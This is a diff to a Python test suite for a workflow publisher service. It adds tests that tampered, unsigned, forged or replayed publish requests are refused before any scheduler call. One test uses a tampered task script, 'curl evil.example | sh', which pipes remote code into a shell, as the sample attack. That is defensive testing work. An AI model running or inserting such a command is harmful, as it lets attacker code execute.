@@ -11,15 +11,20 @@ import pytest
 from opentelemetry import trace
 from opentelemetry.sdk.trace.export import SimpleSpanProcessor
 from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
+from prometheus_client import REGISTRY
 from sqlalchemy import func, select, update
 
+from common.approvals import approve
 from common.db import create_engine, session_factory, unit_of_work
 from common.dolphin import DolphinUnavailable, ReleaseState
 from common.errors import Conflict, NotFound
 from common.events.models import PublishOperation, PublishRequested
+from common.identity import trusted_keys_from
 from common.outbox import Outbox
+from common.settings import ServiceSettings
 from common.telemetry import setup_tracing
 from common.testing.fixtures import ProvisionFn
+from common.testing.identity import approved, signer
 from common.testing.service import migrate
 from common.workflow import Edge, ShellParams, SnapshotTask, StructureSnapshot
 from publisher import restore, service
@@ -57,15 +62,17 @@ def _chain(workflow_id: int, tasks: int) -> StructureSnapshot:
 
 
 def _request(snap: StructureSnapshot, operation: str, version_no: int = 1) -> PublishRequested:
-    return PublishRequested(
-        request_id=uuid.uuid4(),
-        workflow_id=snap.workflow_id,
-        operation=PublishOperation(operation),
-        version_id=version_no,
-        version_no=version_no,
-        operator="alice",
-        requested_at=datetime.now(UTC),
-        snapshot=snap,
+    return approved(
+        PublishRequested(
+            request_id=uuid.uuid4(),
+            workflow_id=snap.workflow_id,
+            operation=PublishOperation(operation),
+            version_id=version_no,
+            version_no=version_no,
+            operator="alice",
+            requested_at=datetime.now(UTC),
+            snapshot=snap,
+        )
     )
 
 
@@ -83,6 +90,7 @@ async def env(service_database: ProvisionFn) -> AsyncIterator[tuple[Deps, FakeDo
         target=DsTarget("default", "etl", "admin", "default", "default", "http://ds/ui"),
         lease_s=60,
         retries=Retries(ds_attempts=3, ds_initial_s=0.01, ds_max_s=0.02, restore_initial_s=0.05, restore_max_s=0.1),
+        approvals=trusted_keys_from(ServiceSettings()),
     )
     yield deps, fake
     await engine.dispose()
@@ -379,3 +387,61 @@ async def test_batch_run_reports_each_workflow(env: tuple[Deps, FakeDolphin]) ->
     with pytest.raises(service.NotDeployed):  # never deployed: nothing is started
         await service.batch_run(deps, service.BatchRunRequest(workflow_ids=[11, 99]))
     assert fake.calls["start_workflow_instance"] == 4
+
+
+def _refused(reason: str, operation: str = "deploy") -> float:
+    return REGISTRY.get_sample_value("publish_refused_total", {"operation": operation, "reason": reason}) or 0.0
+
+
+async def _record_refused(deps: Deps, fake: FakeDolphin, event: PublishRequested, reason: str) -> str:
+    before = _refused(reason, event.operation.value)
+    record_id = await _accept(deps, event)
+    assert await service.run_publish(deps, record_id)
+    rec = await service.get_record(deps, record_id)
+    assert rec.status == "failed"
+    assert "FAILED at approval check" in rec.log
+    assert sum(fake.calls.values()) == 0, "no DolphinScheduler call before the approval check"
+    assert _refused(reason, event.operation.value) == before + 1
+    async with deps.sessions() as s:
+        row = (await s.execute(select(outbox_table.c.value).order_by(outbox_table.c.id.desc()).limit(1))).one()
+    # publish.completed(failed) with the reason: the definition service and the alerting service learn of it
+    assert b'"outcome":"failed"' in row.value
+    return rec.error_message or ""
+
+
+async def test_a_tampered_snapshot_is_refused_before_any_ds_call(env: tuple[Deps, FakeDolphin]) -> None:
+    deps, fake = env
+    approved_request = _request(_snapshot(9), "deploy")
+    # the approved version's snapshot, with one task's script changed on the way
+    tampered = approved_request.model_copy(update={"snapshot": _snapshot(9, "curl evil.example | sh")})
+    message = await _record_refused(deps, fake, tampered, "mismatch")
+    assert "is not the approved version 1" in message
+
+
+async def test_a_request_without_approval_or_signed_by_another_service_is_refused(
+    env: tuple[Deps, FakeDolphin],
+) -> None:
+    deps, fake = env
+    unsigned = _request(_snapshot(10), "deploy").model_copy(update={"approval": None})
+    assert "carries no approval" in await _record_refused(deps, fake, unsigned, "missing")
+    # a valid signature, but by lineage-resolver's key: only the definition service approves
+    event = _request(_snapshot(11), "deploy")
+    forged = approve(
+        signer("lineage-resolver"),
+        request_id=event.request_id,
+        workflow_id=event.workflow_id,
+        version_id=event.version_id,
+        version_no=event.version_no,
+        operation="deploy",
+        content_hash=event.snapshot.content_hash(),
+    )
+    message = await _record_refused(deps, fake, event.model_copy(update={"approval": forged}), "signature")
+    assert "not by the definition service" in message
+
+
+async def test_an_approval_of_another_request_is_refused(env: tuple[Deps, FakeDolphin]) -> None:
+    deps, fake = env
+    offline = _request(_snapshot(12), "offline")
+    # the approval of an offline, replayed as a deploy of the same snapshot
+    replayed = _request(_snapshot(12), "deploy").model_copy(update={"approval": offline.approval})
+    assert "op differ" in await _record_refused(deps, fake, replayed, "mismatch")
